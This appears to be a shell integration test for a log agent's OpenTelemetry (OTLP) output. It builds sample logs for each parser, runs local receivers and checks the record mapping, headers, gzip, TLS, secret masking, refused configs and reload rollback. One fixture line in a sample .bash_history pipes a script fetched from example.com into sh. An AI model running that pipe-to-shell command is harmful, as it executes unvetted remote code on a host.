#!/bin/sh
# The otlp output as an OpenTelemetry receiver sees it: lines for every
# parser (auth, shell, json, logfmt, syslog, plain, cri, docker, none) and an
# alert go to four otlp outputs (protobuf, protobuf+gzip over https, json,
# json+gzip) and to a file output. Each receiver decodes every request on its
# own (protoc's Python classes from the OpenTelemetry .proto files in
# ../shared/otel-proto, the json module for OTLP/JSON) and otlp_check.py
# compares every field of every log record with the documented mapping of
# the same record as the file output shipped it. Also: Content-Type,
# Content-Encoding, headers from ${VAR}, the /v1/logs path under a base path,
# the k8s resource from the environment and from options, and the secret
# header value masked in --validate.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/peers.sh"

PROTO="$ROOT/../shared/otel-proto"
[ -d "$PROTO/opentelemetry" ] || PROTO="$ROOT/outputs/otlp/proto"
VERSION=$(sed -n 's/^#define VIGIL_VERSION "\(.*\)"/\1/p' "$ROOT/sidecar/version.h")
sh "$H/make_certs.sh" "$T/pki"
mkdir -p "$T/logs/home/alice" "$T/out" "$T/state"

# one file per parser; times in the lines are in the past, so the observed
# (read) time differs from the event time
cat >"$T/logs/auth.log" <<'EOF'
Dec  6 03:40:01 web-1 sshd[1201]: Failed password for invalid user admin from 203.0.113.9 port 51234 ssh2
Dec  6 03:40:05 web-1 sshd[1202]: Accepted password for root from 203.0.113.9 port 51240 ssh2
Dec  6 03:40:09 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx
EOF
cat >"$T/logs/home/alice/.bash_history" <<'EOF'
ls -la /tmp
curl -s http://example.com/x.sh | sh
EOF
cat >"$T/logs/app.json" <<'EOF'
{"time":"2026-12-06T03:41:00.123456789Z","level":"WARNING","msg":"slow query","ms":812,"ratio":0.25,"ok":true,"none":null,"user":"bob","pid":"4242","src_ip":"198.51.100.7","src_port":44321,"command":"psql -c select","req":{"id":"r-1","tags":["a","b"],"n":{"deep":1}},"kind":"mine","host":"h-x","ts":"t"}
{"level":30,"msg":"pino info","pid":"not-a-number","path":"/api/v1"}
{"severity":"error","message":"disk full","caf\u00e9":"\u65e5\u672c"}
{"msg":"traced","trace_id":"4BF92F3577B34DA6A3CE929D0E0E4736","span_id":"00f067aa0ba902b7"}
{"msg":"not traced","trace_id":"00000000000000000000000000000000","span_id":"xyz"}
not json at all
EOF
cat >"$T/logs/app.logfmt" <<'EOF'
ts=2026-12-06T03:42:00Z level=error msg="disk full" user=carol src_ip=10.0.0.7 duration=1.5
level=debug msg=tick count=3
EOF
cat >"$T/logs/syslog" <<'EOF'
<34>1 2026-12-06T03:43:00.000Z mymachine.example.com su 77 ID47 [exampleSDID@32473 iut="3" eventSource="Application"] 'su root' failed for lonvick on /dev/pts/8
<13>Dec  6 03:43:10 otherhost myapp[99]: plain old syslog
EOF
cat >"$T/logs/plain.log" <<'EOF'
2026-12-06T03:44:00Z ERROR something broke: code 7
[WARN] no time here
EOF
cat >"$T/logs/cri.log" <<'EOF'
2026-12-06T03:45:00.123456789Z stdout F {"level":"info","msg":"from a pod"}
2026-12-06T03:45:01.000000000Z stderr F plain stderr line
EOF
cat >"$T/logs/docker.log" <<'EOF'
{"log":"hello from docker\n","stream":"stderr","time":"2026-12-06T03:46:00.5Z"}
EOF
printf 'raw line with "quotes" \\ and caf\303\251\n' >"$T/logs/raw.log"

start_peer pb otlp_receiver.py --proto "$PROTO" --gen "$T/pb1";                           P_PB=$PORT
start_peer pbgz otlp_receiver.py --proto "$PROTO" --gen "$T/pb2" --path /otel/v1/logs \
    --cert "$T/pki/server.pem" --key "$T/pki/server.key";                                  P_PBGZ=$PORT
start_peer js otlp_receiver.py --proto "$PROTO" --gen "$T/pb3";                           P_JS=$PORT
start_peer jsgz otlp_receiver.py --proto "$PROTO" --gen "$T/pb4";                         P_JSGZ=$PORT

input() {   # input NAME PARSER FILE
    printf '  - {name: %s, paths: ["%s"], parser: %s, read_from: head, poll_interval: 50ms, refresh_interval: 100ms}\n' "$1" "$3" "$2"
}
{
cat <<YEOF
service:
  state_dir: $T/state
  flush_interval: 100ms
  grace_period: 5s
  hostname: web-1
  http: {listen: "127.0.0.1:0"}
alerts: {format: none, min_severity: info}
detectors: {learning_period: 0s}
inputs:
YEOF
input auth auth "$T/logs/auth.log"
input shell shell "$T/logs/home/*/.bash_history"
input json json "$T/logs/app.json"
input logfmt logfmt "$T/logs/app.logfmt"
input syslog syslog "$T/logs/syslog"
input plain plain "$T/logs/plain.log"
input cri cri "$T/logs/cri.log"
input docker docker "$T/logs/docker.log"
input raw none "$T/logs/raw.log"
cat <<YEOF
outputs:
  - {name: archive, type: file, path: "$T/out", buffer: {type: memory}, batch: {max_delay: 50ms}}
  - name: pb
    type: otlp
    endpoint: "http://127.0.0.1:$P_PB"
    headers: {X-Test: pb-one, Authorization: "Bearer \${OTLP_TOKEN}"}
    buffer: {type: memory}
    batch: {max_events: 7, max_delay: 50ms}
  - name: pbgz
    type: otlp
    endpoint: "https://localhost:$P_PBGZ/otel/"
    compression: gzip
    service_name: checkout
    k8s_pod_name: pod-opt
    tls: {enabled: true, ca_file: "$T/pki/ca.pem"}
    buffer: {type: memory}
    batch: {max_delay: 50ms}
  - name: js
    type: otlp
    endpoint: "http://127.0.0.1:$P_JS"
    encoding: json
    headers: {X-Test: js-three}
    buffer: {type: memory}
    batch: {max_events: 5, max_delay: 50ms}
  - name: jsgz
    type: otlp
    endpoint: "http://127.0.0.1:$P_JSGZ"
    encoding: json
    compression: gzip
    buffer: {type: memory}
    batch: {max_delay: 50ms}
YEOF
} >"$T/v.yaml"

export OTLP_TOKEN=t0ken-s3cret POD_NAME=pod-env POD_NAMESPACE=ns-env NODE_NAME=node-env
"$VIGIL" -c "$T/v.yaml" --validate >"$T/validate" 2>&1 || { cat "$T/validate"; fail "--validate refused the config"; }
grep -q 't0ken-s3cret' "$T/validate" && fail "--validate shows the header secret"
grep -q '"Authorization": "\*\*\*\*\*\*\*\*"' "$T/validate" || fail "--validate does not mask the header"

LINES=$(cat "$T"/logs/*.log "$T"/logs/app.* "$T/logs/syslog" "$T/logs/home/alice/.bash_history" | wc -l)
t0=$("$PY" -c 'import time; print(time.time_ns())')
start_vigil_api "$T/v.yaml"
wait_for 15 metric_ge 'vigil_output_events_total{output="archive"}' $((LINES + 1)) ||
    fail "archive: $(metric 'vigil_output_events_total{output="archive"}') of $LINES lines and an alert"
for p in pb pbgz js jsgz; do
    wait_for 10 sh -c "[ \$(grep -c '^JSON' '$T/$p.got') -ge $((LINES + 1)) ]" ||
        fail "$p: $(grep -c '^JSON' "$T/$p.got") records arrived"
done
# metrics: every record an event, the bytes those of the requests (after gzip)
for p in pb pbgz js jsgz; do
    n=$(grep -c '^JSON' "$T/$p.got")
    bytes=$(sed -n 's/^REQ .* len=\([0-9]*\) .*/\1/p' "$T/$p.got" | awk '{s += $1} END {print s + 0}')
    wait_for 5 metric_eq "vigil_output_events_total{output=\"$p\"}" "$n" ||
        fail "$p: events_total $(metric "vigil_output_events_total{output=\"$p\"}"), $n received"
    metric_eq "vigil_output_bytes_total{output=\"$p\"}" "$bytes" ||
        fail "$p: bytes_total $(metric "vigil_output_bytes_total{output=\"$p\"}"), $bytes received"
done
stop_vigil
t1=$("$PY" -c 'import time; print(time.time_ns())')

"$VIGIL_CAT" "$T"/out/* >"$T/ref" || fail "vigil-cat reported damage in the archive"
INPUTS=auth,shell,json,logfmt,syslog,plain,cri,docker,raw
check() {   # check NAME ENCODING [OPTIONS]
    _n=$1 _e=$2
    shift 2
    grep -q '^BAD' "$T/$_n.got" && { grep '^BAD' "$T/$_n.got" | head -3; fail "$_n: a request broke OTLP"; }
    "$PY" "$H/otlp_check.py" mapping "$T/ref" "$T/$_n.got" --host web-1 --version "$VERSION" \
        --t0 "$t0" --t1 "$t1" --encoding "$_e" --inputs $INPUTS --alerts 1 "$@" ||
        fail "$_n: log records differ from the mapping"
}
check pb protobuf --pod pod-env --namespace ns-env --node node-env
check pbgz protobuf --service checkout --pod pod-opt --namespace ns-env --node node-env
check js json --pod pod-env --namespace ns-env --node node-env
check jsgz json --pod pod-env --namespace ns-env --node node-env

# the requests as sent
reqs() { grep '^REQ' "$T/$1.got"; }
reqs pb | grep -v 'POST /v1/logs ctype=application/x-protobuf cenc=None xtest=pb-one auth=Bearer t0ken-s3cret ' &&
    fail "pb: a request without the protobuf type, the headers or the secret"
reqs pbgz | grep -v 'POST /otel/v1/logs ctype=application/x-protobuf cenc=gzip ' &&
    fail "pbgz: a request not gzipped protobuf to /otel/v1/logs"
reqs js | grep -v 'POST /v1/logs ctype=application/json cenc=None xtest=js-three ' &&
    fail "js: a request not OTLP/JSON"
reqs jsgz | grep -v 'POST /v1/logs ctype=application/json cenc=gzip ' &&
    fail "jsgz: a request not gzipped OTLP/JSON"
[ "$(reqs pb | wc -l)" -ge 3 ] || fail "pb: expected batches of at most 7 records"
say "requests: pb $(reqs pb | wc -l), pbgz (https) $(reqs pbgz | wc -l), js $(reqs js | wc -l), jsgz $(reqs jsgz | wc -l)"

# settings OTLP cannot honour: vigil does not start (exit 3) and says why
refuse() {   # refuse 'OUTPUT YAML' MESSAGE
    cat >"$T/bad.yaml" <<YEOF
service: {state_dir: $T/state-bad}
inputs: [{name: app, paths: ["$T/logs/raw.log"]}]
outputs: [$1]
YEOF
    rc=0
    timeout 10 "$VIGIL" -c "$T/bad.yaml" >/dev/null 2>"$T/bad.err" || rc=$?
    [ "$rc" = 3 ] || fail "otlp ($1): exit $rc, want 3 (could not start)"
    grep -q "$2" "$T/bad.err" || { cat "$T/bad.err"; fail "otlp ($1): no \"$2\""; }
}
refuse '{name: o, type: otlp, endpoint: "http://127.0.0.1:9", compression: lz4}' 'compression lz4 is not part of OTLP'
refuse '{name: o, type: otlp, endpoint: "http://127.0.0.1:9", format: json}' 'format does not apply'
refuse '{name: o, type: otlp, endpoint: "ftp://127.0.0.1:9"}' 'scheme must be http or https'
refuse '{name: o, type: otlp, endpoint: "http://u:p@127.0.0.1:9"}' 'put credentials in headers'
refuse '{name: o, type: otlp, endpoint: "http://127.0.0.1:9", headers: {"Bad Name": x}}' 'has a bad name or value'
refuse '{name: o, type: otlp, endpoint: "http://127.0.0.1:9", tls: {enabled: true}}' 'needs an https:// endpoint'
say "refused at start: lz4, format, a bad scheme, credentials in the URL, a bad header, TLS on http://"

# a reload whose configuration cannot start falls back to the running one,
# started again: the otlp output keeps its encoding and gzip
start_peer rb otlp_receiver.py --proto "$PROTO" --gen "$T/pb5"; P_RB=$PORT
good() {
    cat <<YEOF
service: {state_dir: $T/state-rb, flush_interval: 100ms, grace_period: 5s}
alerts: {format: none}
detectors: {enabled: false}
inputs: [{name: app, paths: ["$T/logs/rb.log"], read_from: head, poll_interval: 50ms}]
outputs:
  - {name: o, type: otlp, endpoint: "http://127.0.0.1:$P_RB", encoding: json, compression: gzip, batch: {max_delay: 50ms}}
YEOF
}
good >"$T/rb.yaml"
write_lines "$T/logs/rb.log" 1 10 rb
start_vigil "$T/rb.yaml"
wait_for 10 got_at_least rb 10 || fail "reload: first lines did not arrive"
good >"$T/rb.yaml"
echo '  - {name: bad, type: otlp, endpoint: "https://127.0.0.1:9", tls: {enabled: true, ca_file: "'"$T"'/none.pem"}}' >>"$T/rb.yaml"
kill -HUP "$VPID"
wait_for 10 grep -q 'reload: the new configuration could not start; back to the previous one' "$T/vigil.err" ||
    fail "reload: the unstartable configuration was not rolled back"
write_lines "$T/logs/rb.log" 11 20 rb
wait_for 10 got_at_least rb 20 || { tail -5 "$T/vigil.err"; fail "reload: nothing delivered after the rollback"; }
stop_vigil
grep '^REQ' "$T/rb.got" | grep -v 'ctype=application/json cenc=gzip ' && fail "reload: the rollback lost json or gzip"
say "reload rolled back: the otlp output still sends OTLP/JSON, gzipped"
say "otlp mapping: ok"
